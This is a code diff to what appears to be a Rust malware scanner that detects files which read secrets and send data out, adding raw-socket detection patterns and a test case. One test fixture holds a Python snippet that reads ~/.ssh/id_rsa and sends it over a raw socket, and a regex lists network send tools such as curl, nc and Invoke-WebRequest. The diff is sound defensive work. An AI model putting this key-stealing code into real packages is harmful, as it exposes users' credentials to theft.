@@ -71,6 +71,12 @@ static SHELL_SEND: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?-u:\b)(?:curl|wget|nc|ncat|scp|Invoke-WebRequest|Invoke-RestMethod)(?-u:\b)").expect("shell send")
 });
 
+/// A raw socket made in the file, and a `.send(` on something.
+static RAW_SOCKET: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?-u:\b)socket\.socket\s*\(|(?-u:\b)socket\s*\(\s*(?:socket\.)?AF_").expect("socket")
+});
+static SEND_CALL: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\.send\s*\(").expect("send"));
+
 /// Whether the file both reads a file and sends data somewhere: what stealing a key takes.
 /// An SSH connection (`.connect(`, `socket.create_connection`) uses a key; it does not send it.
 fn reads_and_sends(src: &Source<'_>) -> (bool, bool) {
@@ -78,7 +84,8 @@ fn reads_and_sends(src: &Source<'_>) -> (bool, bool) {
     let sends = sinks::find(src, &[SinkKind::Send])
         .iter()
         .any(|s| !s.name.ends_with("connect") && !s.name.ends_with("create_connection"))
-        || SHELL_SEND.find_iter(src.text).any(|m| !src.python || src.kind_at(m.start()) == Kind::Str);
+        || SHELL_SEND.find_iter(src.text).any(|m| !src.python || src.kind_at(m.start()) == Kind::Str)
+        || [&*RAW_SOCKET, &*SEND_CALL].iter().all(|re| re.find_iter(src.text).any(|m| src.is_code(m.start())));
     (reads, sends)
 }
 
@@ -220,6 +227,13 @@ mod tests {
                     Runtime,
                     "k = Path.home().joinpath('.ssh', 'id_ed25519').read_text()\ns.connect((H, 443)); s.sendall(k.encode())\n",
                     Some((1, ".ssh id_ed25519", High)),
+                ),
+                (
+                    "ssh key harvested and sent over a raw socket (dependency-confusion beacon)",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "def collect():\n    info['ssh'] = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    s = socket.socket(); s.connect((H, 53)); s.send(repr(info).encode())\n",
+                    Some((2, ".ssh/id_rsa", High)),
                 ),
                 (
                     "ssh key opened to connect (an SSH client's job)",
